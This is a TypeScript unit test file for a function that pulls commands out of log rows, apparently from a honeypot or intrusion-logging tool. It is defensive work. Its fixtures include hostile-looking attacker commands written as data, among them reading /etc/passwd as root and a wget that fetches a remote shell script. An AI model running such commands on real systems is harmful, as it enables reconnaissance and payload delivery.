import assert from 'node:assert/strict'
import {describe, test} from 'node:test'

import {type CommandSource, extractCommand} from '../../src/logs/command.js'

const row = (event_type: string, fields: string | Record<string, unknown>, msg: string | null = null): CommandSource => ({event_type, fields: typeof fields === 'string' ? fields : JSON.stringify(fields), msg})

describe('extractCommand', () => {
  test('every command-like event type takes its command from the fields', () => {
    for (const type of ['command', 'exec', 'query', 'input', 'shell_input', 'execute', 'run', 'sql_query', 'redis_command']) {
      assert.equal(extractCommand(row(type, {command: ' uname -a '})), 'uname -a', type)
    }
  })

  test('event types are matched case-insensitively, with - or . for _', () => {
    assert.equal(extractCommand(row('Shell-Input', {input: 'id'})), 'id')
    assert.equal(extractCommand(row('SQL.QUERY', {sql: 'select 1'})), 'select 1')
  })

  test('field preference: command, query, input, line, sql, cmd', () => {
    assert.equal(extractCommand(row('exec', {cmd: 'c', sql: 's', line: 'l', input: 'i', query: 'q', command: 'x'})), 'x')
    assert.equal(extractCommand(row('exec', {cmd: 'c', sql: 's', line: 'l', input: 'i', query: 'q'})), 'q')
    assert.equal(extractCommand(row('exec', {cmd: 'c', sql: 's', line: 'l', input: 'i'})), 'i')
    assert.equal(extractCommand(row('exec', {cmd: 'c', sql: 's', line: 'l'})), 'l')
    assert.equal(extractCommand(row('exec', {cmd: 'c', sql: 's'})), 's')
    assert.equal(extractCommand(row('exec', {cmd: 'c', sql: '  '})), 'c')
  })

  test('the CMD free-text form, with and without its fields parsed', () => {
    const msg = 'CMD uid=0 user=root src=203.0.113.7 pwd=/root cmd=cat /etc/passwd'
    assert.equal(extractCommand(row('command', {}, msg)), 'cat /etc/passwd')
    assert.equal(extractCommand(row('command', {uid: '0', cmd: 'cat /etc/passwd'}, msg)), 'cat /etc/passwd')
    assert.equal(extractCommand(row('session', '{}', msg)), 'cat /etc/passwd', 'the CMD form is a command whatever the event type')
  })

  test('a command event with only a message: the message is the command', () => {
    assert.equal(extractCommand(row('command', {}, 'wget http://198.51.100.9/x.sh')), 'wget http://198.51.100.9/x.sh')
    assert.equal(extractCommand(row('command', {}, 'CMD uid=0 user=root')), null, 'a CMD line without cmd= is not a command')
  })

  test('command and cmd fields count on any event type; vaguer names do not', () => {
    assert.equal(extractCommand(row('session', {command: 'ls'})), 'ls')
    assert.equal(extractCommand(row('session', {cmd: 'ls'})), 'ls')
    assert.equal(extractCommand(row('request', {query: 'a=1&b=2', path: '/'})), null)
    assert.equal(extractCommand(row('connection', {line: '42', input: 'x'})), null)
  })

  test('not a command: auth events, empty values, no message', () => {
    assert.equal(extractCommand(row('login_failed', {username: 'root', password: 'x'}, 'Failed password')), null)
    assert.equal(extractCommand(row('command', {command: '   '})), null)
    assert.equal(extractCommand(row('command', {})), null)
    assert.equal(extractCommand(row('command', {}, '   ')), null)
  })

  test('fields as an object, broken JSON, or missing', () => {
    assert.equal(extractCommand({event_type: 'exec', fields: {command: 'id'}, msg: null}), 'id')
    assert.equal(extractCommand(row('exec', '{not json', 'whoami')), 'whoami')
    assert.equal(extractCommand(row('exec', '[1,2]', 'whoami')), 'whoami')
    assert.equal(extractCommand({event_type: 'exec', fields: null, msg: 'w'}), 'w')
  })

  test('numbers in fields are commands too (e.g. a redis argument)', () => {
    assert.equal(extractCommand(row('input', {input: 42})), '42')
  })
})
